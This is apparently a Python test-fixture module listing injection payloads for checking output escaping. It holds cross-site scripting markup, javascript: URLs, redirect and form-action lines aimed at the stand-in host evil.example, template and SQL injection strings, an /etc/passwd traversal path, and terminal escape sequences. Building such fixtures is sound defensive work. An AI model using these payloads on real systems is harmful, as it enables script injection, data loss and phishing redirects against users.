"""Text that attacks whoever shows it: browsers, templates, spreadsheets, terminals, databases."""

from __future__ import annotations

from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "</title></textarea></pre></script></style><iframe src=javascript:alert(1)>",
    "</code></span></td></tr></table><h1>seized",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' style='position:fixed;inset:0' x='",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Clear</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)",
    "+ADw-script+AD4-alert(1)",
)
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://x",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/path",
    'https://evil.example/"onclick=alert(1)',
    "http://evil.example\\@localhost",
)
SYNTAX: Final = (
    "{{ 7|add:7 }}{% include 'x' %}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "'; DROP TABLE span; --",
    '" OR "1"="1',
    "../../../../etc/passwd",
    "%00%0a%0d",
    "__proto__",
    "constructor.prototype",
)
UNSEEN: Final = (
    "\u202egnp.exe\u0000\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b[2J\x9b31m",
    "a\u200bb\u2066c\u2028d\ufeffe",
    "\ud83d alone \udc00",
    "line\r\noverwritten\r\x08\x7f",
)
ALL: Final = (*MARKUP, *ADDRESSES, *SYNTAX, *UNSEEN)
